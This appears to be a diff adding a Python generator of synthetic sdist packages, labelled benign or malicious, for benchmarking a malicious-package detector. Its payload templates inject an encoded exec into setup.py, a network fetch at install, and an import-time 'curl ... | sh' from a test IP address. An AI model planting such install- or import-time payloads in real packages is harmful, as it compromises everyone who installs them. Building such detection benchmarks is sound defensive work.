@@ -0,0 +1,142 @@
+"""
+Generator of synthetic sdists for benchmarks and offline evaluation.
+
+Packages look like small real projects (PKG-INFO, setup.py, a package with
+an `__init__.py` importing a few modules, filler functions) with a
+configurable number of files and file size. Malicious ones carry one of a
+few payload styles, from the blatant (an encoded exec in setup.py, decided
+by the static pre-screen alone) to the subtle (a process spawned at import
+time from a module imported by `__init__.py`, escalated to the classifier).
+Output is deterministic for a given seed.
+"""
+
+from __future__ import annotations
+
+import base64
+import io
+import json
+import random
+import tarfile
+import zipfile
+
+from pathlib import Path
+from typing import Dict, List, Optional
+
+PAYLOAD_STYLES = ("encoded_exec", "setup_download", "import_time_process")
+
+_SETUP = '''from setuptools import setup, find_packages
+
+setup(
+    name="{name}",
+    version="{version}",
+    packages=find_packages(),
+)
+'''
+
+_FILLER_FUNCTION = '''
+
+def {name}(values, factor={factor}):
+    """Scale and filter {name} inputs."""
+    result = []
+    for value in values:
+        if value % {mod} == 0:
+            result.append(value * factor)
+        else:
+            result.append(value - {offset})
+    return sorted(result)
+'''
+
+_PAYLOADS = {
+    "encoded_exec": ("setup.py", "import base64\nexec(base64.b64decode({blob!r}))\n"),
+    "setup_download": ("setup.py", "import urllib.request\nurllib.request.urlopen('http://203.0.113.7/{name}').read()\n"),
+    "import_time_process": ("module", "import subprocess\nsubprocess.Popen(['sh', '-c', 'curl -s http://203.0.113.7 | sh'])\n"),
+}
+
+
+def _filler_module(rng: random.Random, target_size: int) -> str:
+    parts = ['"""Helpers."""\n']
+    size = len(parts[0])
+    while size < target_size:
+        chunk = _FILLER_FUNCTION.format(name=f"transform_{rng.randrange(10 ** 8):08d}", factor=rng.randint(2, 9),
+                                        mod=rng.randint(2, 7), offset=rng.randint(1, 99))
+        parts.append(chunk)
+        size += len(chunk)
+    return "".join(parts)
+
+
+def package_files(name: str, malicious: bool, n_files: int = 10, file_size: int = 2048,
+                  payload: Optional[str] = None, seed: int = 0) -> Dict[str, str]:
+    """Relative path -> content of one synthetic package (n_files Python modules)."""
+    rng = random.Random(f"{name}-{seed}")
+    version = f"{rng.randint(0, 3)}.{rng.randint(0, 20)}.{rng.randint(0, 9)}"
+    root = f"{name}-{version}"
+    module = name.replace("-", "_")
+    modules = [f"mod_{i:03d}" for i in range(max(n_files - 2, 1))]
+
+    files = {
+        f"{root}/PKG-INFO": (f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
+                             f"Summary: Synthetic package {name}\nAuthor: Bench Mark\n"
+                             f"Author-email: bench@example.org\nHome-page: https://example.org/{name}\n"),
+        f"{root}/setup.py": _SETUP.format(name=name, version=version),
+        f"{root}/{module}/__init__.py": "".join(f"from . import {m}\n" for m in modules[:3]),
+    }
+    for m in modules:
+        files[f"{root}/{module}/{m}.py"] = _filler_module(rng, file_size)
+
+    if malicious:
+        payload = payload or rng.choice(PAYLOAD_STYLES)
+        target, code = _PAYLOADS[payload]
+        blob = base64.b64encode(b"import os; os.system('id')").decode()
+        code = code.format(blob=blob, name=name)
+        path = f"{root}/setup.py" if target == "setup.py" else f"{root}/{module}/{modules[0]}.py"
+        files[path] = code + files[path]
+    return files
+
+
+def write_package(files: Dict[str, str], dst_dir: str | Path, fmt: str = "tar.gz") -> Path:
+    """Write *files* as a .tar.gz / .zip archive or a plain folder under *dst_dir*."""
+    dst_dir = Path(dst_dir)
+    dst_dir.mkdir(parents=True, exist_ok=True)
+    root = next(iter(files)).split("/")[0]
+    if fmt == "folder":
+        for rel, content in files.items():
+            path = dst_dir / rel
+            path.parent.mkdir(parents=True, exist_ok=True)
+            path.write_text(content, encoding="utf-8")
+        return dst_dir / root
+    if fmt == "zip":
+        path = dst_dir / f"{root}.zip"
+        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+            for rel, content in files.items():
+                archive.writestr(zipfile.ZipInfo(rel, date_time=(1980, 1, 1, 0, 0, 0)), content,
+                                 compress_type=zipfile.ZIP_DEFLATED)
+        return path
+    path = dst_dir / f"{root}.tar.gz"
+    with tarfile.open(path, "w:gz") as archive:
+        for rel, content in files.items():
+            data = content.encode("utf-8")
+            info = tarfile.TarInfo(rel)
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+    return path
+
+
+def generate_corpus(dst_dir: str | Path, count: int, malicious_ratio: float = 0.3, n_files: int = 10,
+                    file_size: int = 2048, fmt: str = "tar.gz", seed: int = 0) -> List[Dict[str, str]]:
+    """
+    Write *count* packages under *dst_dir* and a `manifest.json` listing
+    {"path", "label", "payload"} per package; returns that list.
+    """
+    rng = random.Random(seed)
+    dst_dir = Path(dst_dir)
+    entries = []
+    for i in range(count):
+        malicious = rng.random() < malicious_ratio
+        payload = rng.choice(PAYLOAD_STYLES) if malicious else None
+        name = f"synth-{'m' if malicious else 'b'}{i:05d}"
+        files = package_files(name, malicious, n_files=n_files, file_size=file_size, payload=payload, seed=seed)
+        path = write_package(files, dst_dir / name if fmt == "folder" else dst_dir, fmt)
+        entries.append({"path": str(path), "label": "malicious" if malicious else "benign", "payload": payload or ""})
+    dst_dir.mkdir(parents=True, exist_ok=True)
+    (dst_dir / "manifest.json").write_text(json.dumps(entries, indent=2), encoding="utf-8")
+    return entries